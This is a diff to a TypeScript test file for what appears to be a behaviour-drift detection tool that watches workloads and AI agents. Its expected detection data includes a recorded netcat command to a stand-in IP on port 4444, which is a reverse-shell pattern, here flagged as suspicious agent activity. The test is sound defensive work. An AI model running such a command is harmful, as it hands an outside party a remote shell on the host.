@@ -14,7 +14,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { pruneLineage } from '../../src/behavior/retention.js';
 import { signBody } from '../../src/behavior/webhook.js';
-import { detect, learn, listDrift, lock, relearn, showBaseline } from '../../src/behavior/store.js';
+import { detect, learn, listDrift, listDriftSummaries, lock, relearn, showBaseline } from '../../src/behavior/store.js';
 import type { Graph } from '../../src/graph/driver.js';
 import { ingestFile } from '../../src/graph/ingest-file.js';
 import { node, rel } from '../../src/graph/records.js';
@@ -209,7 +209,7 @@ describe('baselines and drift on recorded observation files', () => {
     const show = cli('baseline', 'show', W, '--format', 'json');
     expect(JSON.parse(show.stdout)).toMatchObject({ subject: W, state: 'locked', version: 2 });
     const bad = cli('baseline', 'show', `${P}-nope`);
-    expect([bad.status, bad.stderr]).toEqual([2, `reachgraph: SUBJECT "${P}-nope": no sensor Workload, AWS role or AWS user has this id, and no agent Workload this name (list workloads with \`reachgraph cypher "MATCH (w:Workload) RETURN w.id"\`)\n`]);
+    expect([bad.status, bad.stderr]).toEqual([2, `reachgraph: SUBJECT "${P}-nope": no sensor Workload, AWS role, AWS user or AI agent has this id, and no agent Workload this name (list workloads with \`reachgraph cypher "MATCH (w:Workload) RETURN w.id"\`)\n`]);
   });
 
   test('drift --follow prints each new event once and delivers it to a webhook, signed', async () => {
@@ -277,6 +277,8 @@ describe('baselines and drift on recorded observation files', () => {
       ['exec', '/bin/sh', 'high', 'certain', 'unexplained', null, ['4711 /bin/sh sh -c nc 203.0.113.50 4444', '4242 /usr/bin/node node /usr/local/bin/claude']],
       ['resolve', 'mcp.sentry.dev', 'medium', 'certain', 'explained', 'ada-laptop/agent/claude/config/mcp-servers-2', ['4242 /usr/bin/node node /usr/local/bin/claude']],
     ]);
+    // every run stores what the per-run cap left out: here nothing
+    expect(await listDriftSummaries(graph, { subject: claude })).toMatchObject([{ subject: claude, baselineVersion: 1, outside: 3, written: 3, suppressed: 0 }]);
   });
 
   test('the API serves drift events to a reader, newest first, and refuses without a token', async () => {
